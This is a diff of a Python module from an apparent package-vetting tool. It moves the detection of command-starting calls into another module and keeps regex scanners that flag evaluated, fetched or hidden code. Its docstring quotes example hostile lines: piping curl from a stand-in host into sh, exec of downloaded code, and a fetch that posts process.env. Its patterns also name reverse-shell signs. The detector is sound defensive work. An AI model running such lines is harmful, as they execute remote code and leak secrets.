@@ -1,11 +1,9 @@
-"""Source code that a pack brings, as far as it matters: the commands that it starts, and what it evaluates or sends.
+"""Source code that a pack brings, as far as it matters: what it evaluates, sends, and hides.
 
-    execSync("curl -s https://x.example | sh")          subprocess.run(["npx", "-y", "tool"])
     exec(urlopen(url).read())                           fetch(url, {body: JSON.stringify(process.env)})
 
-No language is parsed. The calls that start programs are found by their names, and the literals in their arguments, or
-in variables named there, are read as commands; what else counts is found by the words of Python, JavaScript and
-PowerShell that do it.  Time is in proportion to the text.
+No language is parsed: what counts is found by the words of Python, JavaScript and PowerShell that do it. Time is in
+proportion to the text. The commands that code starts are read by `calls`.
 """
 
 from __future__ import annotations
@@ -14,26 +12,13 @@ import re
 from collections.abc import Iterator
 from itertools import chain, islice
 
+from packyard.gate.running.calls import CALL, MOST_CALLS
 from packyard.gate.running.exact import unchanging
 from packyard.gate.running.lines import Lines
 from packyard.gate.running.marks import DECODED, GRAVE, HARM, LEAK, REMOTE, UNREAD, Mark
-from packyard.gate.running.quoting import quote
 
-_STRING = r'"(?:[^"\\\n]++|\\.)*+"|\'(?:[^\'\\\n]++|\\.)*+\'|`(?:[^`\\]++|\\.)*+`'
-_CALL = re.compile(
-    r"(?<![\w.])(?:execa?|execaCommand|system|popen|shell|spawn|execSync|spawnSync|execFile(?:Sync)?)\s?\("
-    r"|\b(?:child_process|cp|os|subprocess|Bun|Deno|asyncio|shelljs|sh|Open3|Kernel)\.\w{1,30}\s?\("
-    r"|[\"'](?:(?:node:)?child_process|os|subprocess)[\"']\)\.\w{1,30}\s?\(|\[[\"'](?:exec|spawn)\w{0,10}[\"']\]\s?\("
-    r"|\bnew\s+Deno\.Command\s?\(|(?<![\w$])\$(?=`)"
-)
-_APPLE = re.compile(r'\bdo shell script\s{1,4}"((?:[^"\\]++|\\.)*+)"')
-_PIECE = re.compile(rf"(?P<string>{_STRING})|(?P<open>[([{{])|(?P<close>[)\]}}])|(?P<name>[A-Za-z_]\w*+)|.", re.DOTALL)
-_ASSIGNED = re.compile(rf"\b([A-Za-z_]\w*+)\s?(?::\s?\w++\s?)?=\s?({_STRING})")
-_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
 _NAME = re.compile(r"\w+")
-_MAX_ARGUMENTS, _NEAR, _INLINE = 2000, 200, 4000
-#: Calls of one text that are looked into.
-MOST_CALLS = 2000
+_NEAR, _INLINE = 200, 4000
 
 _FETCH = (
     r"\bfetch\s?\(|\baxios\b|\bhttps?(?:[\"']\))?\.(?:get|request)\b|\bgot\s?\(|urlopen|urlretrieve|\brequests(?:[\"']\))?\.\w|\bhttpx\.\w"
@@ -94,27 +79,6 @@ _NAMES_OF_EVALS = frozenset(
 _TIED = re.compile(r"pty\.spawn|dup2\s?\(|\.pipe\s?\(|>&[S\d]|gets\b|<&\d")
 
 
-def started(text: str, line: int = 1) -> Iterator[tuple[int, str]]:
-    """The commands that the code starts, as shell commands with their lines."""
-    lines = Lines(text, line)
-    known = {found[1]: found[2] for found in _ASSIGNED.finditer(text)}
-    for script in _APPLE.finditer(text):
-        yield lines.at(script.start()), _ESCAPE.sub(r"\1", script[1])
-    at = 0
-    left = MOST_CALLS
-    while left and (call := _CALL.search(text, at)):
-        left -= 1
-        words, at = _arguments(text, call.end(), known)
-        if words:
-            yield lines.at(call.start()), _command(words)
-
-
-def _command(words: list[str]) -> str:
-    """The literals of a call as one command: a text with its parts, or a program with its arguments."""
-    text = " " in words[0].strip() or any(word != word.strip() for word in words)
-    return " ".join(words) if text else " ".join(map(quote, words))
-
-
 def marks(text: str, line: int = 1, inline: bool = False) -> Iterator[Mark]:
     """What the code runs, reads and sends that commands do not show; `inline` is code that stands in a command, and is
     taken as one statement.
@@ -125,7 +89,7 @@ def marks(text: str, line: int = 1, inline: bool = False) -> Iterator[Mark]:
             yield Mark(REMOTE, at(address.start()), "code is imported from an address that may change", address[1])
     yield from (Mark(DECODED, at(place), "the name of what runs code is hidden", name) for place, name in _hidden(text))
     held = _held(text)
-    if len(tuple(islice(chain(_CALL.finditer(text), _EVAL.finditer(text)), MOST_CALLS))) == MOST_CALLS:
+    if len(tuple(islice(chain(CALL.finditer(text), _EVAL.finditer(text)), MOST_CALLS))) == MOST_CALLS:
         yield Mark(UNREAD, line, "there are too many calls to be looked into")
     for call in islice(_EVAL.finditer(text), MOST_CALLS):
         yield _evaluated(text[:_INLINE] if inline else _statement(text, call), at(call.start()), held)
@@ -176,19 +140,3 @@ def _evaluated(statement: str, line: int, held: dict[str, str]) -> Mark:
     if DECODED in kinds:
         return Mark(DECODED, line, "what is decoded is run")
     return Mark(HARM, line, "text that is made when it runs is run as a program")
-
-
-def _arguments(text: str, at: int, known: dict[str, str]) -> tuple[list[str], int]:
-    """The literals in the arguments of a call, without those of options in braces behind them; and where these end."""
-    words: list[str] = []
-    depth, end, braces = 1, at + _MAX_ARGUMENTS, 0
-    while depth and at < end and (piece := _PIECE.match(text, at)):
-        start, at, kind = at, piece.end(), piece.lastgroup
-        if kind in ("open", "close"):
-            step = 1 if kind == "open" else -1
-            depth += step
-            braces += step if piece[0] in "{}" and words else 0
-        elif (kind == "string" or piece[0] in known) and braces <= 0:
-            words.append(_ESCAPE.sub(r"\1", (piece[0] if kind == "string" else known[piece[0]])[1:-1]))
-            depth -= text[start - 1] == "$"
-    return words, at
